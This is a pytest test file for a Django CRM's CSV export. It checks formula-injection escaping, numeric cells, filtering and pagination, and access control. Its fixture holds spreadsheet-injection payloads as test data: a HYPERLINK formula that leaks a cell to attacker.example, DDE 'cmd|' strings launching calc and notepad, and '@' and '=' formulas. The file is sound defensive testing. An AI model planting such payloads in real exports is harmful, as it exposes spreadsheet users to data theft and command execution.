"""CSV export: exactly the list as shown, every page, safe to open in a spreadsheet."""

import csv
import decimal
import io

import pytest
from django.urls import reverse

from accord.customers import services
from accord.customers.models import Contact, CustomField
from accord.customers.views import lists
from accord.customers.views.lists import escape_cell
from accord.identity.models import Membership, Role

EXPORT = reverse("customers:contact_export")


def read_csv(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


@pytest.fixture
def formula_contacts(org, admin, in_org):
    """The four contacts of the formula-injection case, entered as their CSV gives them."""
    with in_org(org):
        CustomField.objects.create(organization=org, entity="contact", key="note",
                                   label="Note", field_type="text")
        rows = [
            ('=HYPERLINK("http://attacker.example/x?d="&A2;"Click")', "Fenn",
             "Hollow Oak Ltd", "+1 555 0100", "ok"),
            ("Dana", "Kirsch", "@SUM(1+1)", "+44 20 7946 0102", "-10% agreed"),
            ("Omar", "Haddad", "Tidewater Co", "0044 20 7946 0103", "cmd|' /C calc'!A0"),
            ("Rosa", "Lindqvist", "+cmd|' /C notepad'!A0", "+46 8 123 456", "=1+2"),
        ]
        for first, last, company_name, phone, note in rows:
            company = services.create_company(org, admin.user, data={"name": company_name})
            contact = services.create_contact(org, admin.user, data={
                "first_name": first, "last_name": last, "company": company.pk,
                "phones": [phone], "custom_fields": {"note": note},
            })
            if first == "Omar":
                # Form and API input is trimmed, so the leading TAB of the case is
                # stored directly, as an import that keeps values verbatim would.
                Contact.objects.filter(pk=contact.pk).update(
                    custom_fields={"note": "\tcmd|' /C calc'!A0"})


def test_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(
    org, admin, client_for, formula_contacts
):
    response = client_for(admin).get(EXPORT, {
        "columns": ["first_name", "last_name", "company", "phone", "cf.note"],
        "ordering": "last_name",
    })

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert read_csv(response) == [
        ["First name", "Last name", "Company", "Phone", "Note"],
        ["'=HYPERLINK(\"http://attacker.example/x?d=\"&A2;\"Click\")", "Fenn",
         "Hollow Oak Ltd", "'+1 555 0100", "ok"],
        ["Omar", "Haddad", "Tidewater Co", "0044 20 7946 0103", "'\tcmd|' /C calc'!A0"],
        ["Dana", "Kirsch", "'@SUM(1+1)", "'+44 20 7946 0102", "'-10% agreed"],
        ["Rosa", "Lindqvist", "'+cmd|' /C notepad'!A0", "'+46 8 123 456", "'=1+2"],
    ]


def test_escape_leaves_numbers_and_plain_text_alone():
    assert escape_cell("\rcmd") == "'\rcmd"
    assert escape_cell("Hollow Oak Ltd") == "Hollow Oak Ltd"
    assert escape_cell(decimal.Decimal("-250.00")) == decimal.Decimal("-250.00")
    assert escape_cell(-3) == -3


def test_export_writes_numbers_as_numbers(org, admin, client_for, in_org):
    with in_org(org):
        CustomField.objects.create(organization=org, entity="company", key="balance",
                                   label="Balance", field_type="money", currency="EUR")
        services.create_company(org, admin.user, data={
            "name": "Acme", "employees": 12, "annual_revenue": "-250.00", "currency": "EUR",
            "custom_fields": {"balance": "-99.50"},
        })

    response = client_for(admin).get(reverse("customers:company_export"), {
        "columns": ["name", "employees", "annual_revenue", "cf.balance"],
    })

    assert read_csv(response) == [
        ["Name", "Employees", "Annual revenue", "Currency", "Balance", "Balance currency"],
        ["Acme", "12", "-250.00", "EUR", "-99.50", "EUR"],
    ]


def test_export_follows_filters_sort_and_columns_across_all_pages(
    org, admin, client_for, in_org, monkeypatch
):
    monkeypatch.setattr(lists, "EXPORT_CHUNK", 2)
    with in_org(org):
        for name in ["Ann", "Ben", "Cy", "Dee", "Eve"]:
            services.create_contact(org, admin.user, data={
                "first_name": name, "lifecycle_stage": "customer" if name != "Cy" else "lead",
                "email": f"{name.lower()}@example.com",
            })

    response = client_for(admin).get(EXPORT, {
        "lifecycle_stage": "customer", "ordering": "-first_name",
        "columns": ["first_name", "email", "lifecycle_stage"], "cursor": "",
    })

    assert read_csv(response) == [
        ["First name", "E-mail", "Lifecycle stage"],
        ["Eve", "eve@example.com", "Customer"],
        ["Dee", "dee@example.com", "Customer"],
        ["Ben", "ben@example.com", "Customer"],
        ["Ann", "ann@example.com", "Customer"],
    ]


def test_export_link_on_the_list_carries_the_current_filters(org, admin, client_for):
    response = client_for(admin).get(reverse("customers:contact_list"), {
        "q": "ann", "ordering": "-name", "columns": ["name", "email"],
    })

    assert ('href="/contacts/export.csv?q=ann&amp;ordering=-name&amp;columns=name&amp;'
            'columns=email"') in response.content.decode()


def test_export_needs_the_export_permission(org, make_member, client_for):
    reader = make_member(org, Role.READ_ONLY)

    assert client_for(reader).get(EXPORT).status_code == 403


def test_export_filtered_by_another_organisations_company_answers_404(
    org, other_org, admin, client_for, in_org
):
    with in_org(other_org):
        outsider = Membership.objects.get(organization=other_org).user
        theirs = services.create_company(other_org, outsider, data={"name": "Theirs"})

    response = client_for(admin).get(EXPORT, {"company_id": theirs.pk})

    assert response.status_code == 404
